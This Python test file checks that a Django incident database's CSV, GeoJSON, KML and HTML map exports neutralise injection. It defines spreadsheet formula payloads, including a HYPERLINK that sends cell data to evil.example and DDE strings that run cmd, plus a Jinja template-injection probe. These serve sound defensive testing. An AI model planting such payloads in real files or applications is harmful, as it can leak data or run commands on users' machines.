"""XSS and formula payloads in every exported field: CSV, GeoJSON, KML, the folium HTML map.

- CSV (the Python writer on SpatiaLite, PostgreSQL's COPY on PostGIS): every text cell
  that starts with =, +, -, @, tab or carriage return starts with an apostrophe, so no
  spreadsheet runs it; the rest of the cell is kept.
- GeoJSON: valid JSON whose text properties are the payloads exactly (data, not markup).
- KML: well-formed XML; the payloads are text (no element or attribute comes from them).
- folium HTML map: no element, handler or script is made by a payload (folium's own
  Popup/Tooltip would paste the text into a JavaScript template literal: see folium_map.py).
"""

import csv
import io
import json

import pytest
from django.contrib.gis.geos import Point
from django.urls import reverse
from lxml import etree

from incidents.exports.folium_map import incidents_map
from incidents.filters import IncidentFilter
from tests.factories import IncidentFactory, ReportFactory
from tests.hostile.payloads import JS_URL, XSS, injected

FORMULAS = {
    "equals": "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "dde": "=cmd|' /C calc'!A0",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}
PAYLOADS = {**XSS, **FORMULAS}
TEXT_FIELDS = ("summary", "actor1", "actor2", "location_name", "admin1", "admin2")


@pytest.fixture
def hostile_incidents(db):
    made = {}
    for i, (name, payload) in enumerate(PAYLOADS.items()):
        report = ReportFactory(title=payload, publisher=payload[:200], url=JS_URL)
        made[name] = IncidentFactory(report=report, location=Point(40 + i * 0.1, 35, srid=4326),
                                     **{field: payload[:200] for field in TEXT_FIELDS})
    return made


def body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_csv_cells_never_start_a_formula(viewer_client, hostile_incidents):
    response = viewer_client.get(reverse("incidents:export-csv"))
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(body(response).decode("utf-8-sig"), newline="")))
    assert len(rows) == len(PAYLOADS)
    checked = 0
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or _number(cell), (column, cell)
            if cell.startswith("'") and cell[1:] in FORMULAS.values():
                checked += 1
    assert checked >= len(FORMULAS) * 3  # at least actor1, location, admin1 of each formula row


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_geojson_export_keeps_the_payloads_as_data(viewer_client, hostile_incidents):
    response = viewer_client.get(reverse("incidents:export-geojson"))
    assert response.status_code == 200
    features = json.loads(body(response))["features"]
    values = {v for f in features for v in f["properties"].values() if isinstance(v, str)}
    for payload in XSS.values():
        assert payload[:200] in values


def test_kml_export_is_well_formed_and_payloads_stay_text(viewer_client, hostile_incidents):
    response = viewer_client.get(reverse("incidents:export-kml"))
    assert response.status_code == 200
    root = etree.fromstring(body(response), parser=etree.XMLParser(resolve_entities=False, no_network=True))
    tags = {etree.QName(el).localname for el in root.iter() if isinstance(el.tag, str)}
    assert not tags & {"script", "img", "svg", "iframe", "html", "body"}, tags
    texts = {(el.text or "") for el in root.iter() if isinstance(el.tag, str)}
    for payload in XSS.values():
        assert payload[:200].replace("\r", "\n") in texts or any(payload[:60] in t for t in texts), payload


def test_folium_html_map_makes_no_element_from_a_payload(db, hostile_incidents):
    html = incidents_map(filters=IncidentFilter()).html
    assert not injected(html), injected(html)


@pytest.mark.parametrize("param", ["actor", "q", "publisher", "governorate"])
def test_html_map_export_does_not_run_template_syntax_from_a_filter(viewer_client, hostile_incidents, param):
    # branca renders a macro's output again as a Jinja template (see folium_map.js_string).
    response = viewer_client.get(reverse("incidents:export-html"), {param: "{{ 7*7 }}z9z"})
    assert response.status_code == 200
    html = body(response).decode("utf-8")
    assert "49z9z" not in html and not injected(html)
